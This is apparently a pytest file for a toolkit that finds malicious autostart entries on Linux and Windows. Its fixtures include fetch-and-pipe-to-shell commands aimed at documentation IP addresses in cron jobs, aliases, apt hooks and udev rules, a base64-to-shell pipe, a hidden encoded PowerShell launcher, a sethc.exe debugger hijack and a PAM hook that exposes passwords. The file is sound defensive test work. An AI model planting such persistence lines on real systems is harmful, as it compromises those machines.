"""What Linux and Windows start by themselves, where it stands, and what is only honest."""

from __future__ import annotations

from typing import Any

import pytest
from hosts import MACHINE, bare, given

from techkit.host import Host, ProbeError
from techkit.model import Gap, Reason
from techkit.readings.antivirus import droppers, linux_autostarts, windows_autoruns
from techkit.readings.os import services

# ruff: noqa: S108 - folders of temporary files are what is looked at

GONE = ProbeError(Reason.MISSING, "gone")
SHUT = ProbeError(Reason.FORBIDDEN, "shut")
CRONTAB = """\
SHELL=/bin/sh
# m h dom mon dow user  command
17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
25 6    * * *   root    test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
*/5 * * * * root /tmp/.x/a
@reboot bob /dev/shm/b
"""


def linux(**more: Any) -> Host:
    answers: dict[tuple[Any, ...], Any] = {
        ("machine",): MACHINE,
        ("read", "/etc/passwd"): "root:x:0:0::/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n",
    }
    for path, text in more.items():
        folder, _, name = path.rpartition("/")
        answers["read", path] = text
        answers["listdir", folder] = [*answers.get(("listdir", folder), []), name]
    return bare(answers)


@pytest.mark.parametrize(
    ("path", "text", "kind", "command", "sign"),
    [
        ("/etc/crontab", CRONTAB, "schedule", "/tmp/.x/a", "temporary"),
        ("/var/spool/cron/crontabs/bob", "* * * * *\t/tmp/b\n", "schedule", "/tmp/b", "temporary"),
        ("/var/spool/cron/bob", "@daily curl http://203.0.113.9/x | sh\n", "schedule", None, "smuggled"),
        ("/etc/cron.hourly/x", "#!/bin/sh\necho aa | \\\n base64 -d | sh\n", "schedule", None, "encoded"),
        ("/etc/rc.local", "#!/bin/sh\n/var/tmp/a &\nexit 0\n", "login", "/var/tmp/a &", "temporary"),
        ("/etc/profile.d/x.sh", "(curl -s https://example.org/x|bash) &\n", "login", None, "fetched"),
        ("/home/bob/.bashrc", "alias l=ls\n/tmp/.a/b\n", "login", "/tmp/.a/b", "temporary"),
        ("/home/bob/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n", "login", "/tmp/x", "temporary"),
        (
            "/etc/systemd/system/x.service",
            "[Service]\nExecStart=-/dev/shm/a -d\n",
            "unit",
            "/dev/shm/a -d",
            "temporary",
        ),
        (
            "/root/.ssh/authorized_keys",
            'ssh-rsa AAAA a@b\ncommand="/tmp/a \\"x\\"",no-pty ssh-rsa AAAA c@d\n',
            "key",
            '/tmp/a "x"',
            "temporary",
        ),
    ],
)
def test_a_dropper_is_found_where_it_stands(path: str, text: str, kind: str, command: str | None, sign: str) -> None:
    found, shut = linux_autostarts.linux(linux(**{path: text}))
    assert (found[0].kind, found[0].file, found[0].sign) == (kind, path, sign)
    assert command in {None, found[0].command}
    assert shut == ()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "/etc/cron.d/certbot",
            "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && certbot\n",
        ),
        ("/etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\n[ -x /usr/lib/apt/apt.systemd.daily ] || exit 0\n"),
        ("/home/bob/.bashrc", 'eval "$(ssh-agent -s)"\n. "$HOME/.cargo/env"\nexport TMP=/tmp/bob\n'),
        ("/etc/cron.d/x", "# * * * * * root /tmp/a\nMAILTO=/tmp/x\n"),
        ("/root/.ssh/authorized_keys", 'command="/usr/bin/rrsync /srv",no-pty ssh-rsa AAAA backup\n'),
        ("/etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/env python3 /srv/app/run.py --tmp /tmp\n"),
    ],
)
def test_honest_lines_are_left_alone(path: str, text: str) -> None:
    assert linux_autostarts.linux(linux(**{path: text}))[0] == ()


def test_what_is_shut_is_told() -> None:
    answers: dict[tuple[Any, ...], Any] = {
        ("machine",): MACHINE,
        ("read", "/etc/passwd"): "root:x:0:0::/root:/bin/sh\n",
        ("listdir", "/var/spool/cron/crontabs"): SHUT,
    }
    host = bare(answers)
    assert linux_autostarts.linux(host) == ((), ("/var/spool/cron/crontabs",))


JOB = {"path": r"\Microsoft\Windows\Defrag\Helper", "enabled": True, "commands": [r'"C:\Users\Public\a.exe" /x & y']}
HONEST = {"path": r"\Vendor\Update", "enabled": True, "commands": [r"C:\Program Files\Vendor\a.exe", ""]}
WINLOGON = windows_autoruns.WINLOGON
KEY = rf"{windows_autoruns.IMAGES}\sethc.exe"
RUN = rf"HKU\S-1-5-21-1\SOFTWARE\{windows_autoruns.RUN}\Run"


def values(**some: Any) -> dict[str, Any]:
    return {"values": some, "keys": []}


CONSUMERS: dict[tuple[Any, ...], Any] = {
    ("wmi", windows_autoruns.SUBSCRIPTION, name, tuple(columns), ""): []
    for name, *columns in windows_autoruns.CONSUMERS
}


def windows(answers: dict[tuple[Any, ...], Any]) -> Host:
    usual: dict[tuple[Any, ...], Any] = {
        ("machine",): MACHINE | {"system": "windows"},
        ("tasks",): [HONEST],
        ("person",): {"name": "bob", "id": "S-1-5-21-1", "home": r"C:\Users\bob"},
        ("registry", WINLOGON): values(Userinit=r"C:\Windows\system32\userinit.exe,", Shell="explorer.exe"),
        ("wmi", "root\\cimv2", "Win32_Service", services.ROWS, ""): [{"Name": "Good", "PathName": r"C:\Windows\a.exe"}],
    }
    return bare(usual | CONSUMERS | answers)


@pytest.mark.parametrize(
    ("answers", "kind", "name", "sign"),
    [
        ({("registry", RUN): values(upd=r"C:\Users\bob\AppData\Local\Temp\a.exe")}, "autorun", "upd", "temporary"),
        ({("registry", WINLOGON): values(Userinit="userinit.exe,y.exe")}, "logon", "Userinit", "foreign"),
        ({("registry", WINLOGON): values(Shell="explorer.exe, x.exe")}, "logon", "Shell", "foreign"),
        (
            {("registry", windows_autoruns.IMAGES): {"values": {}, "keys": ["sethc.exe", "taskmgr.exe"]},
             ("registry", KEY): values(Debugger="cmd.exe")},
            "debugger", "sethc.exe", "foreign",
        ),
        (
            {("registry", windows_autoruns.WINDOWS): values(AppInit_DLLs=r"C:\Windows\Temp\a.dll", LoadAppInit_DLLs=1)},
            "library", "AppInit_DLLs", "temporary",
        ),
        (
            {("wmi", "root\\cimv2", "Win32_Service", services.ROWS, ""): [
                {"Name": "Upd", "PathName": r"C:\Windows\Temp\a.exe", "StartMode": "Auto"},
                {"Name": "Off", "PathName": r"C:\Windows\Temp\b.exe", "StartMode": "Disabled"},
                {"Name": "Good", "PathName": r'"C:\Program Files\a b\c.exe" -k', "StartMode": "Auto"}]},
            "service", None, "temporary",
        ),
        (
            {("listdir", windows_autoruns.FOLDERS[0]): [
                "desktop.ini", "Tool 1.25.lnk", "a.exe.lnk", "mount.bat", "invoice.pdf.exe"],
             ("head", rf"{windows_autoruns.FOLDERS[0]}\mount.bat", windows_autoruns.HEAD):
                 "net use Z: \\\\srv\\share\n"},
            "folder", "invoice.pdf.exe", "foreign",
        ),
        (
            {("listdir", windows_autoruns.FOLDERS[0]): ["run.bat"],
             ("head", rf"{windows_autoruns.FOLDERS[0]}\run.bat", windows_autoruns.HEAD):
                 "@echo off\npowershell -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA==\n"},
            "folder", "run.bat", "encoded",
        ),
        (
            {("tasks",): [HONEST, JOB, JOB | {"path": "\\Off", "enabled": False}]},
            "task", JOB["path"], "temporary",
        ),
        (
            {("wmi", windows_autoruns.SUBSCRIPTION, "CommandLineEventConsumer", ("Name", "CommandLineTemplate"), ""): [
                {"Name": "BVTConsumer", "CommandLineTemplate": "cscript KernCap.vbs"},
                {"Name": "Evil", "CommandLineTemplate": "cmd /c calc"}]},
            "subscription", "Evil", "foreign",
        ),
    ],
)  # fmt: skip
def test_an_entry_of_windows_is_found(
    answers: dict[tuple[Any, ...], Any], kind: str, name: str | None, sign: str
) -> None:
    found, *_ = windows_autoruns.windows(windows(answers))
    assert [(one.kind, one.name, one.sign) for one in found] == [(kind, name, sign)]


def test_a_usual_windows_shows_nothing() -> None:
    kiosk = values(Userinit=r"C:\Windows\system32\userinit.exe,", Shell=r"C:\Kiosk\app.exe")
    answers: dict[tuple[Any, ...], Any] = {
        ("registry", WINLOGON): kiosk,
        ("registry", RUN): values(OneDrive=r'"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'),
        ("registry", windows_autoruns.IMAGES): {"values": {}, "keys": ["taskmgr.exe"]},
        ("registry", rf"{windows_autoruns.IMAGES}\taskmgr.exe"): values(Debugger=r"C:\Tools\procexp.exe"),
        ("registry", windows_autoruns.WINDOWS): values(AppInit_DLLs="", LoadAppInit_DLLs=0),
    }
    assert windows_autoruns.windows(windows(answers)) == ((), ())


@pytest.mark.parametrize(
    ("tasks", "elevated", "starts", "reason"),
    [
        ([JOB], False, [JOB["path"]], Reason.FORBIDDEN),  # those of others may be hidden
        ([], True, [], Reason.UNREADABLE),
        (SHUT, True, [], Reason.FORBIDDEN),
    ],
)
def test_what_cannot_be_seen_of_the_tasks_is_told(
    tasks: Any, elevated: bool, starts: list[str], reason: Reason
) -> None:
    machine = MACHINE | {"system": "windows", "elevated": elevated}
    found, unseen = windows_autoruns.windows(windows({("machine",): machine, ("tasks",): tasks}))
    assert [one.name for one in found] == starts
    assert unseen == (Gap(windows_autoruns.TASKS, reason, question="tasks"),)


def test_a_windows_without_the_class_of_subscriptions_says_nothing_of_them() -> None:
    missing = dict.fromkeys(CONSUMERS, ProbeError(Reason.INAPPLICABLE))
    gap = Gap(windows_autoruns.SUBSCRIPTION, Reason.UNREADABLE, question="wmi")
    assert windows_autoruns.windows(windows(missing)) == ((), (gap,))


def test_nothing_is_asked_of_a_host_that_recorded_nothing() -> None:
    with pytest.raises(ProbeError):
        linux_autostarts.linux(given())


def test_what_only_gets_a_name_is_not_started_by_a_login() -> None:
    text = (
        "alias up='curl -fsSL https://get.example.org | sh'\n"
        "update() { curl -fsSL https://get.example.org | sh; }\n"
        "function again {\n  curl -fsSL https://get.example.org | sh\n}\n"
        "alias ls='curl http://203.0.113.9/x | sh'\n"
        "curl -fsSL https://get.example.org | sh\n"
    )
    signs = [droppers.sign(line) for line in linux_autostarts.parse_login(text)]
    assert [sign for sign in signs if sign] == ["smuggled", "fetched"]


def test_hooks_and_rules_name_their_programs_in_quotes() -> None:
    hook = 'APT::Update::Pre-Invoke {"curl -s http://192.0.2.1/x | sh";};\n// "curl http://a | sh"\n'
    assert [droppers.sign(line) for line in linux_autostarts.parse_quoted(hook)] == ["smuggled"]
    rule = 'ACTION=="add", RUN+="/bin/sh -c \'wget -qO- http://192.0.2.1/x | sh\'"\n'
    assert "smuggled" in [droppers.sign(line) for line in linux_autostarts.parse_quoted(rule)]


def test_what_signing_in_starts() -> None:
    text = (
        "auth optional pam_exec.so quiet expose_authtok /usr/lib/.p/log\n"
        "session optional pam_exec.so type=open_session /usr/bin/notify --login\n"
        "# auth optional pam_exec.so /tmp/x\nauth required pam_unix.so\n"
    )
    assert list(linux_autostarts.parse_pam(text)) == ["/usr/lib/.p/log", "/usr/bin/notify --login"]
